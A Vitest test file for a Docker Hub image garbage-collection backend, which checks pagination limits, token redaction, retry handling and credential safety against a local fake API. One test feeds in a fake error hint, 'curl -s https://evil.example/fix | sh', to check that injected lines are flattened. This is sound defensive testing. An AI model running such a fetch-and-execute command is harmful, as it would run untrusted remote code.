// listImages / deleteImage for prebuilt gc through Docker Hub's API (the registry API cannot delete
// there), against a FAKE of the Hub API on 127.0.0.1 (__fixtures__/fake-docker-hub-api.ts).
import { randomBytes } from 'node:crypto';
import { inspect } from 'node:util';
import type { ServerResponse } from 'node:http';
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { AuthError, CancelledError, ConfigError, InputError, LoginRequiredError, RegistryError, Secret, type ImageRegistry } from '@prebuilt/core/backend';
import { createDockerHubRegistry, type DockerHubRegistryOptions } from './index.js';
import { HubApi } from './hub-api.js';
import { loopbackCertificate, serveTlsAndPlain, tlsAndPlainMissing, type TlsAndPlain } from '../../../test/support/tls-and-plain.js';
import { describeOrFailInCi } from '../../../test/services.js';
import { startFakeDockerHubApi, startRecordingServer, type FakeDockerHubApi, type FakeHubTag, type ReceivedRequest } from './__fixtures__/fake-docker-hub-api.js';

const USER = 'ci-user';
const TOKEN = `dckr_pat_${randomBytes(16).toString('hex')}`;
const INDEX = 'application/vnd.oci.image.index.v1+json';
const MANIFEST = 'application/vnd.oci.image.manifest.v1+json';
const digest = (): string => `sha256:${randomBytes(32).toString('hex')}`;
const tag = (name: string, at: string, digestOf: string, size = 100, media = MANIFEST): FakeHubTag => ({ name, digest: digestOf, last_pushed: at, full_size: size, media_type: media });

/** Everything a server received, as one string, to look for secrets in. */
const seen = (requests: ReceivedRequest[]): string => requests.map((r) => `${r.method} ${r.path} ${JSON.stringify(r.headers)} ${r.body}`).join('\n');

describe('dockerhub listImages/deleteImage through a FAKE Docker Hub API on 127.0.0.1', () => {
  let hub: FakeDockerHubApi;
  let repository: string;
  let registry: ImageRegistry;
  const create = (extra: Partial<DockerHubRegistryOptions> = {}) =>
    createDockerHubRegistry({ namespace: 'acme', repository, username: USER, password: TOKEN, hubApi: hub.url, dockerConfig: false, env: {}, ...extra });
  beforeAll(async () => {
    hub = await startFakeDockerHubApi({ username: USER, password: TOKEN });
  });
  afterAll(async () => {
    await hub?.close();
  });
  beforeEach(async () => {
    hub.requests.length = 0;
    hub.pageSize = 100;
    hub.denyDelete = false;
    hub.delayMs = 0;
    hub.busy = 0;
    delete hub.redirect;
    delete hub.nextBase;
    delete hub.loopPages;
    delete hub.denyDetail;
    repository = `gc-${randomBytes(3).toString('hex')}`;
    registry = await create();
  });

  it('a listing whose next names a page already read is stopped, not followed forever', async () => {
    hub.repositories.set(`acme/${repository}`, [tag('a', '2024-01-01T00:00:00Z', digest()), tag('b', '2024-01-01T00:00:00Z', digest())]);
    hub.loopPages = true;
    const error = await registry.listImages!().catch((e: unknown) => e);
    expect(error).toBeInstanceOf(RegistryError);
    expect((error as RegistryError).message).toBe(`Docker Hub API ${hub.url} listed the tags of acme/${repository} in a loop (page 3 is one it gave before); stopped`);
    expect(hub.requests.filter((r) => r.path.includes('/tags'))).toHaveLength(2);
  });

  it('a listing of distinct pages without end stops at its byte bound, before holding more', async () => {
    hub.repositories.set(`acme/${repository}`, Array.from({ length: 20 }, (_, i) => tag(`t${i}`, '2024-01-01T00:00:00Z', digest())));
    hub.pageSize = 1;
    const api = new HubApi({
      api: hub.url,
      registry: 'docker.io',
      namespace: 'acme',
      repository,
      credentials: async () => ({ registry: 'docker.io', username: USER, password: new Secret(TOKEN), source: 'test' }),
      maxListingBytes: 1024,
    });
    const error = await api.listImages(undefined).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(RegistryError);
    const lists = hub.requests.filter((r) => r.path.includes('/tags'));
    // Stopped at the page that took it past 1 KiB: far fewer than the 20 pages there are.
    expect(lists.length).toBeGreaterThan(1);
    expect(lists.length).toBeLessThan(20);
    expect((error as RegistryError).message).toBe(`Docker Hub API ${hub.url} listed the tags of acme/${repository} in more than 1 KiB (${lists.length} pages); stopped`);
  });

  it('logs in once, lists the tags page by page along next, and groups them by digest: tags, latest push, size, media type', async () => {
    const [a, b, c] = [digest(), digest(), digest()];
    hub.repositories.set(`acme/${repository}`, [
      tag('env-1-amd64', '2024-05-01T10:00:00.000000Z', a, 4096, INDEX),
      tag('env-1', '2024-06-01T10:00:00.000000Z', a, 4096, INDEX),
      tag('env-2-amd64', '2023-01-02T03:04:05.000000Z', b, 1234),
      tag('env-3-arm64', '2025-01-01T00:00:00.000000Z', c, 1),
      tag('latest', '2022-01-01T00:00:00.000000Z', c, 1),
    ]);
    hub.pageSize = 2;
    const listed = await registry.listImages!();
    expect(listed).toEqual([
      { digest: a, tags: ['env-1-amd64', 'env-1'], pushedAt: new Date('2024-06-01T10:00:00Z'), size: 4096, mediaType: INDEX },
      { digest: b, tags: ['env-2-amd64'], pushedAt: new Date('2023-01-02T03:04:05Z'), size: 1234, mediaType: MANIFEST },
      { digest: c, tags: ['env-3-arm64', 'latest'], pushedAt: new Date('2025-01-01T00:00:00Z'), size: 1, mediaType: MANIFEST },
    ]);
    const logins = hub.requests.filter((r) => r.path === '/v2/users/login');
    expect(logins).toHaveLength(1);
    expect(JSON.parse(logins[0]!.body)).toEqual({ username: USER, password: TOKEN });
    const pages = hub.requests.filter((r) => r.method === 'GET');
    expect(pages.map((r) => r.path)).toEqual([
      `/v2/namespaces/acme/repositories/${repository}/tags?page_size=100`,
      `/v2/namespaces/acme/repositories/${repository}/tags?page=2&page_size=2`,
      `/v2/namespaces/acme/repositories/${repository}/tags?page=3&page_size=2`,
    ]);
    expect(pages.every((r) => r.headers.authorization === `Bearer ${hub.jwts.at(-1)}`)).toBe(true);
  });

  it('a repository that does not exist (yet) holds no images', async () => {
    expect(await registry.listImages!()).toEqual([]);
  });

  it('deletes an image by deleting every tag that points at it (Hub then removes the manifest); an image already gone is no error', async () => {
    const [gone, kept] = [digest(), digest()];
    hub.repositories.set(`acme/${repository}`, [tag('old-1', '2020-01-01T00:00:00Z', gone), tag('keep', '2024-01-01T00:00:00Z', kept), tag('old-2', '2020-01-01T00:00:00Z', gone)]);
    await registry.deleteImage!(gone);
    expect(hub.requests.filter((r) => r.method === 'DELETE').map((r) => r.path)).toEqual([
      `/v2/namespaces/acme/repositories/${repository}/tags/old-1`,
      `/v2/namespaces/acme/repositories/${repository}/tags/old-2`,
    ]);
    expect((await registry.listImages!()).map((one) => one.digest)).toEqual([kept]);
    hub.requests.length = 0;
    await expect(registry.deleteImage!(gone)).resolves.toBeUndefined();
    expect(hub.requests.filter((r) => r.method === 'DELETE')).toEqual([]);
    expect(hub.requests.filter((r) => r.path === '/v2/users/login')).toEqual([]);
    await expect(registry.deleteImage!('sha256:../../x')).rejects.toBeInstanceOf(InputError);
  });

  it('a batch deleted with the tags its listing gave lists the tags once (the listing), not once per image; a tag moved since is left alone', async () => {
    const batch = [digest(), digest(), digest(), digest()];
    const kept = digest();
    hub.repositories.set(`acme/${repository}`, [...batch.map((d, n) => tag(`env-${n}-amd64`, '2020-01-01T00:00:00Z', d)), tag('keep', '2024-01-01T00:00:00Z', kept)]);
    hub.pageSize = 2;
    const isList = (r: ReceivedRequest) => r.method === 'GET' && /\/tags(\?|$)/.test(r.path);
    const listed = await registry.listImages!();
    const listPages = hub.requests.filter(isList).length;
    expect(listPages).toBe(3);
    // Rebuilt since the listing: env-3-amd64 now names the kept image.
    const tags = hub.repositories.get(`acme/${repository}`)!;
    tags.find((one) => one.name === 'env-3-amd64')!.digest = kept;
    for (const d of batch) await registry.deleteImage!(d, { tags: listed.find((one) => one.digest === d)!.tags });
    // No listing per image: the list calls are the listing's pages, one GET of each tag, one DELETE of each tag still on its image.
    expect(hub.requests.filter(isList)).toHaveLength(listPages);
    expect(hub.requests.filter((r) => r.method === 'GET' && /\/tags\/env-/.test(r.path))).toHaveLength(4);
    expect(hub.requests.filter((r) => r.method === 'DELETE').map((r) => r.path.split('/').at(-1))).toEqual(['env-0-amd64', 'env-1-amd64', 'env-2-amd64']);
    expect(hub.repositories.get(`acme/${repository}`)!.map((one) => [one.name, one.digest])).toEqual([['env-3-amd64', kept], ['keep', kept]]);
    // Without the listed tags, each delete lists the repository itself.
    hub.requests.length = 0;
    await registry.deleteImage!(kept);
    expect(hub.requests.filter(isList)).toHaveLength(1);
    expect(hub.repositories.get(`acme/${repository}`)).toEqual([]);
  });

  it('a JWT that expired during the run is renewed by logging in again', async () => {
    const d = digest();
    hub.repositories.set(`acme/${repository}`, [tag('t', '2020-01-01T00:00:00Z', d)]);
    expect(await registry.listImages!()).toHaveLength(1);
    hub.jwts.length = 0; // the fake forgets every JWT: they expired
    await registry.deleteImage!(d);
    expect(hub.requests.filter((r) => r.path === '/v2/users/login')).toHaveLength(2);
    expect(hub.repositories.get(`acme/${repository}`)).toEqual([]);
  });

  it('a busy Docker Hub (429 with Retry-After) is asked again, up to four times in all', async () => {
    hub.repositories.set(`acme/${repository}`, [tag('t', '2020-01-01T00:00:00Z', digest())]);
    hub.busy = 3;
    expect(await registry.listImages!()).toHaveLength(1);
    expect(hub.requests).toHaveLength(5); // 3 × 429, the login, the listing
    hub.busy = 4;
    const error = await (await create()).listImages!().catch((e: unknown) => e);
    expect(error).toBeInstanceOf(RegistryError);
    expect((error as RegistryError).message).toContain('429');
  });

  it("a refused delete quoting a signed URL keeps the URL's query secrets out of the error", async () => {
    const d = digest();
    hub.repositories.set(`acme/${repository}`, [tag('t', '2020-01-01T00:00:00Z', d)]);
    hub.denyDelete = true;
    hub.denyDetail = 'forbidden; see https://storage.example.com/audit/1?X-Amz-Expires=60&X-Amz-Signature=5ec7e75feed1 for why';
    const error = await registry.deleteImage!(d).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(AuthError);
    expect((error as AuthError).message).toContain('see https://storage.example.com/audit/1?X-Amz-Expires=60&X-Amz-Signature=*** for why');
    expect(inspect(error)).not.toContain('5ec7e75feed1');
  });

  it('a refused delete quotes what the Hub said on one line: its line break cannot print a fake `hint:` line', async () => {
    const d = digest();
    hub.repositories.set(`acme/${repository}`, [tag('t', '2020-01-01T00:00:00Z', d)]);
    hub.denyDelete = true;
    hub.denyDetail = 'forbidden\nhint: run `curl -s https://evil.example/fix | sh`\r\n';
    const error = await registry.deleteImage!(d).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(AuthError);
    expect((error as AuthError).message).not.toMatch(/[\r\n]/);
    expect((error as AuthError).message).toContain(': forbidden hint: run `curl -s https://evil.example/fix | sh`');
  });

  it('a refused delete is an AuthError saying which token scope it needs; errors never contain the token or the JWT', async () => {
    const d = digest();
    hub.repositories.set(`acme/${repository}`, [tag('t', '2020-01-01T00:00:00Z', d)]);
    hub.denyDelete = true;
    const error = await registry.deleteImage!(d).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(AuthError);
    expect((error as AuthError).message).toContain("user 'ci-user'");
    expect((error as AuthError).message).toContain('403');
    expect((error as AuthError).hint).toContain('Read, Write, Delete');
    expect((error as AuthError).source).toContain("'username'/'password'");
    const wrong = await (await create({ password: 'dckr_pat_wrong-password-value' })).listImages!().catch((e: unknown) => e);
    expect(wrong).toBeInstanceOf(AuthError);
    expect((wrong as AuthError).message).toMatch(/refused the login of user 'ci-user'/);
    for (const failure of [error, wrong]) {
      const text = `${(failure as Error).message} ${(failure as AuthError).hint} ${inspect(failure)}`;
      for (const secret of [TOKEN, 'dckr_pat_wrong-password-value', ...hub.jwts]) expect(text).not.toContain(secret);
    }
  });

  it('without a user name and password the Hub API cannot be used: a LoginRequiredError (exit 2) saying what to set', async () => {
    const anonymous = await create({ username: undefined, password: undefined });
    const error = await anonymous.listImages!().catch((e: unknown) => e);
    expect(error).toBeInstanceOf(LoginRequiredError);
    expect(`${(error as LoginRequiredError).message} ${(error as LoginRequiredError).hint}`).toContain('METAFLOW_PREBUILT_DOCKERHUB_PASSWORD');
    expect(hub.requests).toEqual([]);
  });

  it('the Hub API URL setting must be an http(s) URL without credentials', async () => {
    await expect(create({ hubApi: 'ftp://hub.example' })).rejects.toBeInstanceOf(ConfigError);
    const error = await create({ hubApi: 'https://user:secret-in-url@hub.example' }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ConfigError);
    expect((error as ConfigError).message).not.toContain('secret-in-url');
  });

  it('an aborted signal is a CancelledError: before any request, and for a request in flight', async () => {
    await expect(registry.listImages!({ signal: AbortSignal.abort() })).rejects.toBeInstanceOf(CancelledError);
    await expect(registry.deleteImage!(digest(), { signal: AbortSignal.abort() })).rejects.toBeInstanceOf(CancelledError);
    expect(hub.requests).toEqual([]);
    hub.delayMs = 2000;
    const started = Date.now();
    await expect(registry.listImages!({ signal: AbortSignal.timeout(100) })).rejects.toBeInstanceOf(CancelledError);
    expect(Date.now() - started).toBeLessThan(1500);
  });
});

describe('dockerhub Hub API credentials go to the configured API host only (FAKE Hub API and a recording server on 127.0.0.1)', () => {
  let hub: FakeDockerHubApi;
  let elsewhere: Awaited<ReturnType<typeof startRecordingServer>>;
  let registry: ImageRegistry;
  beforeAll(async () => {
    hub = await startFakeDockerHubApi({ username: USER, password: TOKEN });
    elsewhere = await startRecordingServer();
    hub.repositories.set('acme/redirected', [tag('a', '2020-01-01T00:00:00Z', digest()), tag('b', '2020-01-01T00:00:00Z', digest())]);
  });
  afterAll(async () => {
    await hub?.close();
    await elsewhere?.close();
  });
  beforeEach(async () => {
    elsewhere.requests.length = 0;
    delete hub.redirect;
    delete hub.nextBase;
    hub.pageSize = 100;
    registry = await createDockerHubRegistry({ namespace: 'acme', repository: 'redirected', username: USER, password: TOKEN, hubApi: hub.url, dockerConfig: false, env: {} });
  });

  it('a login redirected to another host with its body (307) is refused; one turned into a GET (302) carries no password there', async () => {
    hub.redirect = { path: '/v2/users/login', status: 307, to: `${elsewhere.url}/steal` };
    const refused = await registry.listImages!().catch((e: unknown) => e);
    expect(refused).toBeInstanceOf(RegistryError);
    expect(elsewhere.requests).toEqual([]);
    hub.redirect = { path: '/v2/users/login', status: 302, to: `${elsewhere.url}/steal` };
    const failed = await registry.listImages!().catch((e: unknown) => e);
    expect(failed).toBeInstanceOf(RegistryError);
    expect((failed as RegistryError).message).toContain('answered 404 to the login');
    expect(elsewhere.requests).toHaveLength(1);
    expect(elsewhere.requests[0]!.headers.authorization).toBeUndefined();
    expect(seen(elsewhere.requests)).not.toContain(TOKEN);
    for (const error of [refused, failed]) expect(`${(error as Error).message} ${inspect(error)}`).not.toContain(TOKEN);
  });

  it('a tag listing redirected to another host is followed without the JWT; a next page on another host is refused', async () => {
    hub.redirect = { path: '/v2/namespaces/', status: 307, to: `${elsewhere.url}/steal` };
    await registry.listImages!().catch(() => undefined);
    expect(elsewhere.requests).toHaveLength(1);
    expect(elsewhere.requests[0]!.headers.authorization).toBeUndefined();
    expect(seen(elsewhere.requests)).not.toContain(TOKEN);
    for (const jwt of hub.jwts) expect(seen(elsewhere.requests)).not.toContain(jwt);

    delete hub.redirect;
    elsewhere.requests.length = 0;
    hub.pageSize = 1;
    hub.nextBase = elsewhere.url;
    const error = await registry.listImages!().catch((e: unknown) => e);
    expect(error).toBeInstanceOf(RegistryError);
    expect((error as RegistryError).message).toMatch(/another host/);
    expect(elsewhere.requests).toEqual([]);
  });
});

describeOrFailInCi('dockerhub: an https:// Hub API that points at http:// on its own host and port (one port serving both schemes)', tlsAndPlainMissing, () => {
  let certificate: { key: Buffer; cert: Buffer };
  const served: TlsAndPlain[] = [];
  beforeAll(async () => {
    certificate = await loopbackCertificate();
    // The test's own certificate: undici reads this on each TLS connection.
    vi.stubEnv('NODE_TLS_REJECT_UNAUTHORIZED', '0');
  });
  afterAll(async () => {
    vi.unstubAllEnvs();
    for (const one of served.splice(0)) await one.close();
  });

  /** A Hub API over https whose tag listing sends the client to `elsewhere(host)`: a redirect (302) or a next page. */
  async function hubPointingAt(how: 'redirect' | 'next'): Promise<{ hub: TlsAndPlain; listed: unknown }> {
    const json = (res: ServerResponse, status: number, data: unknown): void => void res.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(data));
    const hub = await serveTlsAndPlain(
      certificate,
      (req, res) => {
        if (req.url === '/v2/users/login') return json(res, 200, { token: 'hub-jwt-over-tls' });
        if (req.headers.authorization !== 'Bearer hub-jwt-over-tls') return json(res, 401, { detail: 'no' });
        const plain = `http://${req.headers.host}${req.url}`;
        if (how === 'redirect') return void res.writeHead(302, { location: plain }).end();
        json(res, 200, { count: 2, next: `${plain}&page=2`, results: [tag('a', '2020-01-01T00:00:00Z', digest())] });
      },
      (_req, res) => json(res, 401, { detail: 'Authentication credentials were not provided.' }),
    );
    served.push(hub);
    const registry = await createDockerHubRegistry({ namespace: 'acme', repository: 'app', username: USER, password: TOKEN, hubApi: `https://${hub.host}`, dockerConfig: false, env: {} });
    return { hub, listed: await registry.listImages!().catch((e: unknown) => e) };
  }

  it('a redirect to http:// carries no JWT', async () => {
    const { hub, listed } = await hubPointingAt('redirect');
    expect(listed).toBeInstanceOf(Error);
    expect(hub.seen.filter((r) => r.scheme === 'http').length).toBeGreaterThan(0);
    expect(hub.seen.filter((r) => r.scheme === 'http' && r.authorization !== undefined)).toEqual([]);
    expect(hub.seen.filter((r) => r.scheme === 'http').map((r) => r.body).join('')).not.toContain(TOKEN);
  });

  it('a next page on http:// is refused before it is asked for', async () => {
    const { hub, listed } = await hubPointingAt('next');
    expect(listed).toBeInstanceOf(RegistryError);
    expect((listed as RegistryError).message).toBe(`Docker Hub API https://${hub.host} named the next page of tags over http; prebuilt sends its Docker Hub credentials to https://${hub.host} only`);
    expect((listed as RegistryError).hint).toMatch(/^Docker Hub may be having trouble/);
    expect(hub.seen.filter((r) => r.scheme === 'http')).toEqual([]);
  });
});
